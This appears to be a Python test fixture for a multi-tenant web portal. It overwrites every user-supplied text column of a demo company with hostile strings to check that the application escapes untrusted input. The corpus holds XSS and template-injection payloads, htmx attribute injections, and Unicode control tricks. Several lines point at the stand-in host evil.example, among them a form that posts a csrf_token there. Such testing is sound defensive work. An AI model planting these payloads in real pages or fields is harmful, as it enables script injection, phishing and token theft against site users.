"""A company in which every text is hostile: whatever LeafLink, Flourish and people can write."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle
from typing import Any
from uuid import UUID

from sqlalchemy import Column, Text, literal_column, select, text, update
from sqlalchemy.dialects.postgresql import JSONB

from portal.extensions import Sessions
from portal.models import Tenant, owned_tables
from tests.web import demo, factory

CORPUS = (
    "<script>alert('xss')</script>",
    "\"><img src=x onerror=alert('xss')>",
    "'><svg/onload=alert('xss')>",
    "javascript:alert('xss')",
    "</textarea></title></style></script><script>alert('xss')</script>",
    "{{ 7*7 }}${7*7}<%= 7*7 %>#{7*7}",
    '<div hx-get="https://evil.example/a" hx-trigger="load">x</div>',
    '<div hx-get="/sign-out" hx-trigger="load" hx-target="body">x</div>',
    "<div hx-on:click=\"alert('xss')\" hx-on::load=\"alert('xss')\">x</div>",
    '<hx-partial hx-target="body">stolen</hx-partial>',
    '<template hx type="partial" hx-target="body">stolen</template>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/b"><base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/c.css"><style>body{display:none}</style>',
    '<form action="https://evil.example/d"><input name=csrf_token><button>Sign in</button></form>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '" autofocus onfocus="alert(1)" x="',
    "<!--<script>--!><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\u202egnp.exe\u2028\u2029\u0007\u200b",
    "event: message\ndata: <script>alert(1)</script>\n\nid: 9",
    "W" * 400,
)
# Columns of text whose values mean something to the program; the rest is text of others.
MEANT = {
    "state",
    "kind",
    "level",
    "side",
    "who",
    "status",
    "outcome",
    "how",
    "tone",
    "platform",
    "slug",
    "timezone",
    "role",
    "base_url",
    "email",
    "password_hash",
    "staff_role",
    "auth_scheme",
    "system",
    "scope",
    "stop_scope",
    "action",
    "key_id",
    "code_hash",
    "totp_key_id",
    "ended_because",
    "outcome_status",
    "report",
    "failed",
    "chain",
    "detail_digest",
    "severity",
    # Of notices: what is told is our own words and codes, and the body is made of it.
    "channel",
    "kinds",
    "pace",
    "group_key",
    "told",
    "body",
}


def fill(sessions: Sessions, company: factory.Company) -> UUID:
    """Fill a company with one of everything, then put the corpus in place of each text of it."""
    told = demo.fill(sessions, company)
    texts = (f"{text} {number}" for number, text in enumerate(cycle(CORPUS)))
    # As who made the tables: what was told is never rewritten by anybody else.
    with sessions.engine.begin() as connection:
        connection.execute(update(Tenant).where(Tenant.id == company.id).values(name=CORPUS[1]))
        for table in owned_tables():
            columns = [column for column in table.c if _is_foreign_text(column)]
            rows = connection.execute(
                select(literal_column("ctid"), *columns).where(table.c.tenant_id == company.id)
            )
            for row in rows.mappings().all() if columns else ():
                changed = {
                    name: poisoned(row[name], texts)
                    for name in row
                    if name != "ctid" and row[name] is not None
                }
                connection.execute(
                    update(table)
                    .where(literal_column("ctid") == text("CAST(:ctid AS tid)"))
                    .values(**changed),
                    {"ctid": row["ctid"]},
                )
    return told


def poisoned(value: Any, texts: Iterator[str]) -> Any:
    """A value with a hostile text in place of each text in it."""
    if isinstance(value, str):
        return next(texts)
    if isinstance(value, list):
        return [poisoned(item, texts) for item in value]
    if isinstance(value, dict):
        return {name: poisoned(item, texts) for name, item in value.items()}
    return value


def _is_foreign_text(column: Column[Any]) -> bool:
    is_text = isinstance(column.type, Text | JSONB) and column.computed is None
    return is_text and not column.foreign_keys and not column.primary_key and column.name not in MEANT
